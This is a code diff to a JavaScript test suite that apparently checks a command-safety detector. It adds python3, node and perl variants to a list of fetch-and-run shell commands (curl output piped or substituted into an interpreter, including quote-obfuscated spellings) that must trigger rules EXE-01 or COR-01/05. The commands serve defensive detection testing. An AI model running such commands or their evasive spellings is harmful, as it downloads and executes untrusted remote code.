@@ -36,6 +36,9 @@ describe('every spelling of fetch-and-run is one fact', () => {
     `env -i bash -c "$(curl -s ${FETCH})"`,
     `nohup bash -c "curl -s ${FETCH} | sh" &`,
     `c''url -s ${FETCH} | ba""sh`,
+    `python3 -c "$(curl -s ${FETCH})"`,
+    `node -e "$(curl -s ${FETCH})"`,
+    `perl -e "$(curl -s ${FETCH})"`,
   ])('%s', async (code) => {
     expect(await rulesFor(code)).toEqual(expect.arrayContaining([expect.stringMatching(/^(?:EXE-01|COR-0[15])$/)]));
   });
